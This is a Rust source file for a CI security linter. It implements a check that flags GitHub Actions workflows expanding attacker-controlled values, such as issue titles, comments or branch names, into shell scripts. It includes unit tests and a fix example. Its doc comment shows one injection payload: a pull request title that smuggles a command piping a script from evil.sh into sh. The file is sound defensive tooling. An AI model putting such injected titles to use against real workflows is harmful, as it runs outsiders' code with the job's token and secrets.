use annexa_github::expressions_in;
use annexa_model::pipeline::{Job, Site, Step, StepAction};
use annexa_model::{Outcome, Platform};
use github_actions_expressions::Expr;

use crate::check::{Check, PipelineCx, Sink, check};

check! {
    /// ## What it does
    /// Finds `${{ ... }}` expressions that expand attacker-controlled text — issue and pull
    /// request titles and bodies, comments, branch names, commit messages — directly into a
    /// shell script (`run:`) or into the code of `actions/github-script`. In composite actions
    /// and reusable workflows, `inputs.*` expanded into a script are `unknown`: the caller
    /// decides what they hold, and may pass an outsider's text.
    ///
    /// ## Why is this bad?
    /// Expressions are substituted into the script *before* the shell runs it. A pull request
    /// titled `"; curl evil.sh | sh; #` becomes part of your script and runs with the job's
    /// token and secrets. Values that cannot carry code (SHAs, numbers, ids,
    /// `steps.*.outcome`) are not reported. Step and job outputs (`steps.*.outputs.*`,
    /// `needs.*.outputs.*`) may carry anything, so a script that expands them is `unknown`
    /// rather than passed. `env.X` is followed when `X` is set from an attacker-controlled
    /// value in the same file.
    ///
    /// ## Example
    /// ```yaml
    /// on: issues
    /// jobs:
    ///   triage:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "New issue: ${{ github.event.issue.title }}"
    /// ```
    ///
    /// ## Fix
    /// Pass the value through an environment variable, which the shell treats as data:
    /// ```yaml
    ///       - run: echo "New issue: $TITLE"
    ///         env:
    ///           TITLE: ${{ github.event.issue.title }}
    /// ```
    pub struct TemplateInjection {
        id: TemplateInjection,
        summary: "attacker-controlled value expanded into code",
        severity: High,
        confidence: High,
        scope: Pipeline,
        platforms: &[Platform::GithubActions],
        controls: [A8_28, A8_25],
    }
}

/// Contexts whose value an outsider chooses (lower-case patterns; `*` is any one segment).
const ATTACKER_CONTROLLED: &[&str] = &[
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.pages.*.page_name",
    "github.event.commits.*.message",
    "github.event.commits.*.author.email",
    "github.event.commits.*.author.name",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_commit.author.email",
    "github.event.workflow_run.head_commit.author.name",
    "github.event.workflow_run.pull_requests.*.head.ref",
    "github.head_ref",
];

/// Contexts that carry whatever an earlier step produced: cannot be judged from the file.
const OPAQUE: &[&str] = &["steps.*.outputs", "needs.*.outputs", "jobs.*.outputs"];

fn segments_match(a: &[&str], b: &[&str]) -> bool {
    a.iter()
        .zip(b)
        .all(|(x, y)| x == y || *x == "*" || *y == "*")
}

/// Whether `ctx` is, contains or lies inside a value in `patterns`.
fn overlaps(ctx: &str, patterns: &[&str]) -> bool {
    let c: Vec<&str> = ctx.split('.').collect();
    patterns.iter().any(|p| {
        let p: Vec<&str> = p.split('.').collect();
        segments_match(&c, &p)
    })
}

enum Verdict {
    Attacker(String),
    Opaque(String),
    Safe,
}

/// Environment variables set from attacker-controlled values, and whether `inputs.*` come from
/// a caller (composite actions and reusable workflows, whose callers may pass an outsider's
/// text) rather than from the person starting the workflow.
struct Tainted(Vec<String>, bool);

fn judge(body: &str, tainted_env: &Tainted) -> Verdict {
    let Ok(expr) = Expr::parse(body) else {
        return Verdict::Opaque(format!("the expression `{body}` could not be parsed"));
    };
    let mut opaque = None;
    for (ctx, _) in expr.dataflow_contexts() {
        let Some(pattern) = ctx.as_pattern() else {
            opaque.get_or_insert_with(|| format!("`{body}` is computed"));
            continue;
        };
        if overlaps(&pattern, ATTACKER_CONTROLLED) {
            return Verdict::Attacker(pattern);
        }
        if tainted_env.1 && pattern.starts_with("inputs.") {
            opaque.get_or_insert_with(|| {
                format!("`{pattern}` carries whatever the caller passes, possibly an outsider's text; pass it through `env:` instead")
            });
            continue;
        }
        if let Some(var) = pattern.strip_prefix("env.")
            && tainted_env.0.iter().any(|t| t.eq_ignore_ascii_case(var))
        {
            return Verdict::Attacker(pattern);
        }
        if OPAQUE
            .iter()
            .any(|o| overlaps(&pattern, &[o]) && pattern.split('.').count() >= o.split('.').count())
        {
            opaque.get_or_insert_with(|| {
                format!("`{pattern}` may carry anything an earlier step produced")
            });
        }
    }
    opaque.map_or(Verdict::Safe, Verdict::Opaque)
}

/// Environment variables (any level of this file) set from attacker-controlled values.
fn tainted_env(cx: &PipelineCx<'_>, job: &Job, step: &Step) -> Tainted {
    let vars = cx.pipeline.variables_in_scope(job, step);
    Tainted(
        vars.filter(|v| {
            expressions_in(&v.value).iter().any(|e| {
                matches!(
                    judge(e.body, &Tainted(Vec::new(), false)),
                    Verdict::Attacker(_)
                )
            })
        })
        .map(|v| v.name.clone())
        .collect(),
        matches!(
            cx.pipeline.kind,
            annexa_model::pipeline::PipelineKind::Action
                | annexa_model::pipeline::PipelineKind::Reusable
        ),
    )
}

impl Check for TemplateInjection {
    fn meta(&self) -> &'static annexa_model::CheckMeta {
        &Self::META
    }

    fn pipeline(&self, cx: &PipelineCx<'_>, out: &mut Sink) {
        let mut any = false;
        for (job, step) in cx.pipeline.steps() {
            let code: Vec<(&str, &Site, &str)> = match &step.action {
                StepAction::Run { script, site, .. } => {
                    vec![(script.as_str(), site, "the shell script")]
                }
                StepAction::Uses { target, inputs }
                    if target.name.eq_ignore_ascii_case("actions/github-script") =>
                {
                    inputs
                        .iter()
                        .filter(|i| i.name == "script")
                        .map(|i| (i.value.as_str(), &i.site, "the github-script code"))
                        .collect()
                }
                _ => Vec::new(),
            };
            for (text, site, what) in code {
                let exprs = expressions_in(text);
                if exprs.is_empty() {
                    continue;
                }
                any = true;
                let tainted = tainted_env(cx, job, step);
                let mut unknown = None;
                let mut failed = false;
                // Where the next search for each expression text starts in the source, so each
                // occurrence is found once, in order (linear in the script's length).
                let mut from: std::collections::HashMap<&str, usize> =
                    std::collections::HashMap::new();
                for e in &exprs {
                    let raw = &text[e.start..e.end];
                    match judge(e.body, &tainted) {
                        Verdict::Attacker(ctx) => {
                            failed = true;
                            let start = from.get(raw).copied().unwrap_or(0);
                            let span = site.find_span(cx.source_of(site), raw, start);
                            if let Some(sp) = span {
                                from.insert(raw, sp.end - site.span.map_or(0, |s| s.start));
                            }
                            out.at_span(cx.file, site, span, Outcome::Fail, format!("`{ctx}` is attacker-controlled and is expanded into {what} of step `{}`", step.label()));
                        }
                        Verdict::Opaque(why) => {
                            unknown.get_or_insert(why);
                        }
                        Verdict::Safe => {}
                    }
                }
                if failed {
                    continue;
                }
                match unknown {
                    Some(why) => out.at(
                        cx.file,
                        site,
                        Outcome::Unknown,
                        format!(
                            "cannot tell whether {what} of step `{}` is safe: {why}",
                            step.label()
                        ),
                    ),
                    None => out.at(
                        cx.file,
                        site,
                        Outcome::Pass,
                        format!(
                            "expressions in {what} of step `{}` carry no attacker-controlled value",
                            step.label()
                        ),
                    ),
                };
            }
        }
        if !any {
            out.file(
                cx.file,
                Outcome::NotRelevant,
                "no expressions expanded into scripts",
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn judges_contexts() {
        let none = Tainted(Vec::new(), false);
        assert!(matches!(
            judge("github.event.issue.title", &none),
            Verdict::Attacker(_)
        ));
        assert!(matches!(
            judge("github.event.commits[0].message", &none),
            Verdict::Attacker(_)
        ));
        assert!(matches!(
            judge("toJSON(github.event)", &none),
            Verdict::Attacker(_)
        ));
        assert!(matches!(
            judge("github.event.pull_request.head.sha", &none),
            Verdict::Safe
        ));
        assert!(matches!(
            judge("github.event.pull_request.number", &none),
            Verdict::Safe
        ));
        assert!(matches!(judge("steps.build.outcome", &none), Verdict::Safe));
        assert!(matches!(
            judge("steps.meta.outputs.tags", &none),
            Verdict::Opaque(_)
        ));
        assert!(matches!(
            judge("github.event.issue.title == 'x'", &none),
            Verdict::Safe
        ));
        let t = Tainted(vec!["TITLE".into()], false);
        assert!(matches!(judge("env.TITLE", &t), Verdict::Attacker(_)));
    }
}
